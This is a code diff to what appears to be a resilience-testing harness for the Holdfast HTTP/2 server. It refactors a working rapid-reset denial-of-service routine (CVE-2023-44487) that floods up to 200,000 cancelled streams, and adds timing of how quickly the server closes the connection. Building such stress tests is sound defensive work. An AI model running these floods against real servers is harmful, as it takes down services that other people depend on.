@@ -9,6 +9,7 @@
 import { connect as netConnect, type Socket } from 'node:net';
 import { connect as http2Connect } from 'node:http2';
 import { performance } from 'node:perf_hooks';
+import { pingAckTimeoutMs, sessionReadCheckIntervalMs } from '@holdfast/server';
 import type { Attack, AttackFigures, AttackScale, AttackTarget } from '../attack.js';
 
 export const clientPreface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
@@ -60,7 +61,9 @@ export interface RawHttp2 {
   receivedBytes(): number;
   /** Whether the server ended or reset the connection. */
   serverClosed(): boolean;
-  /** Whether a GOAWAY came, and its error code. */
+  /** performance.now() when the server ended or reset the connection. */
+  closedAtMs(): number | undefined;
+  /** Whether a GOAWAY came, and the error code of the first (a server may send another as it closes). */
   goawayCode(): number | undefined;
   /** Frames of a type counted as they arrive (RST_STREAM, PING ACKs ...). */
   framesOfType(type: number): number;
@@ -89,6 +92,7 @@ export function openRawHttp2(target: Pick<AttackTarget, 'host' | 'port'>, option
     const socket = netConnect({ host: target.host, port: target.port, noDelay: true });
     let received = 0;
     let closed = false;
+    let closedAtMs: number | undefined;
     let goaway: number | undefined;
     const counts = new Map<number, number>();
     let pending: Buffer = Buffer.alloc(0);
@@ -105,7 +109,7 @@ export function openRawHttp2(target: Pick<AttackTarget, 'host' | 'port'>, option
         const type = pending[offset + 3]!;
         const flags = pending[offset + 4]!;
         counts.set(type, (counts.get(type) ?? 0) + 1);
-        if (type === frameType.goaway && length >= 8) goaway = pending.readUInt32BE(offset + 13);
+        if (type === frameType.goaway && length >= 8) goaway ??= pending.readUInt32BE(offset + 13);
         if (type === frameType.settings && (flags & 0x1) === 0) {
           if (ackSettings && !socket.destroyed) socket.write(settingsAck);
           settingsCame();
@@ -116,6 +120,7 @@ export function openRawHttp2(target: Pick<AttackTarget, 'host' | 'port'>, option
     });
     if (!read) socket.pause();
     const markClosed = (): void => {
+      if (!closed) closedAtMs = performance.now();
       closed = true;
     };
     socket.once('end', markClosed);
@@ -128,6 +133,7 @@ export function openRawHttp2(target: Pick<AttackTarget, 'host' | 'port'>, option
         socket,
         receivedBytes: () => received,
         serverClosed: () => closed,
+        closedAtMs: () => closedAtMs,
         goawayCode: () => goaway,
         framesOfType: (type) => counts.get(type) ?? 0,
         serverSettings: () => Promise.race([settingsReceived, new Promise<void>((resolve) => socket.once('close', () => resolve()))]),
@@ -266,9 +272,21 @@ async function prefaceFlood(target: AttackTarget, scale: AttackScale): Promise<A
   return { connections: total, connectFailures: failed, elapsedMs: Math.round(performance.now() - started) };
 }
 
-/** Requests opened and at once cancelled (RST_STREAM CANCEL), CVE-2023-44487. */
-async function rapidReset(target: AttackTarget, scale: AttackScale): Promise<AttackFigures> {
-  const streams = scale === 'short' ? 5_000 : 200_000;
+/**
+ * How long a server that sent GOAWAY, or stopped reading, is given to close
+ * the connection: Holdfast's bound (a read check, a second one, the PING
+ * ACK's timeout; http2-sessions.ts) with room to spare.
+ */
+export const rapidResetCloseWaitMs = 2 * sessionReadCheckIntervalMs + pingAckTimeoutMs + 10_000;
+
+/**
+ * Opens `streams` requests on one connection, each cancelled at once
+ * (RST_STREAM CANCEL), CVE-2023-44487; stops early when the server stops
+ * reading (a write waits past the time limit) or closes. If the server sent
+ * GOAWAY or stopped reading, waits up to rapidResetCloseWaitMs for it to
+ * close the connection (serverClosedAfterMs: from the end of sending).
+ */
+export async function sendRapidResets(target: AttackTarget, streams: number, timeLimitMs: number): Promise<AttackFigures> {
   const connection = await openRawHttp2(target);
   await connection.serverSettings();
   const started = performance.now();
@@ -276,7 +294,6 @@ async function rapidReset(target: AttackTarget, scale: AttackScale): Promise<Att
   try {
     const rst = Buffer.alloc(4);
     rst.writeUInt32BE(0x8); // CANCEL
-    const timeLimitMs = scale === 'short' ? 10_000 : 60_000;
     let stalled = false;
     for (let id = 1; sentStreams < streams; ) {
       const pieces: Buffer[] = [];
@@ -293,17 +310,27 @@ async function rapidReset(target: AttackTarget, scale: AttackScale): Promise<Att
       }
       sentStreams += batch;
     }
+    const sendMs = performance.now() - started;
     await sleep(200);
+    if (stalled || connection.goawayCode() !== undefined) {
+      const deadline = performance.now() + rapidResetCloseWaitMs;
+      while (!connection.serverClosed() && performance.now() < deadline) await sleep(50);
+    }
     return {
       streamsReset: sentStreams,
       serverStoppedReading: stalled,
-      elapsedMs: Math.round(performance.now() - started),
+      elapsedMs: Math.round(sendMs),
       serverClosed: connection.serverClosed(),
+      serverClosedAfterMs: connection.serverClosed() ? Math.round(connection.closedAtMs()! - sendMs - started) : 'never',
       goawayCode: connection.goawayCode() ?? 'none',
     };
   } finally {
     connection.close();
   }
+}
+
+function rapidReset(target: AttackTarget, scale: AttackScale): Promise<AttackFigures> {
+  return sendRapidResets(target, scale === 'short' ? 5_000 : 200_000, scale === 'short' ? 10_000 : 60_000);
 }
 
 /** `count` copies of one control frame from a client that never reads the answers. */
